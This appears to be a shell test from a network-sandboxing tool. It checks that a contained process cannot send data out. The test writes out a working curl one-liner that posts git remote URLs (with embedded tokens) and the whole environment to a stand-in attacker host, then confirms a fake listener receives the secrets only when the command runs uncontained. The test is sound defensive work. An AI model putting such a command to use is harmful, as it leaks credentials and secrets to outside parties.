#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# N02: the line of 2021 sends nothing, and is told.
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"
in_world --net --addr 203.0.113.66

line='curl -sm 5 -d "$(git remote -v)<<<<<< ENV $(env)" \
	http://203.0.113.66/upload/v2 || true'

body()
{
	as_user git init -q .
	as_user git remote add origin https://bot:TOKEN-1@git.example/repo
	DEPLOY_KEY=SECRET-2
	export DEPLOY_KEY
	listener thief tcp 203.0.113.66:80 greet
	control 'the line' bash -c "$line"
	heard thief >/dev/null
	has 'the secret arrived' "$T/thief.log.data" SECRET-2
	has 'the remote arrived' "$T/thief.log.data" TOKEN-1
	listener thief tcp 203.0.113.66:80 greet
	OPTIONS="--evidence $OUT/evidence"
	inside 'the line' bash -c "$line"
	heard_nothing 'the thief got no byte' thief
	has_event 'the attempt is on record' "$OUT/evidence" denied 203.0.113.66
	has 'and in the summary' "$T/stderr" 203.0.113.66:80
	inside 'the environment' bash -c 'git remote -v; env'
	has_not 'no secret in it' "$T/stdout" SECRET-2
	OPTIONS=
}
for_each_who body
plan
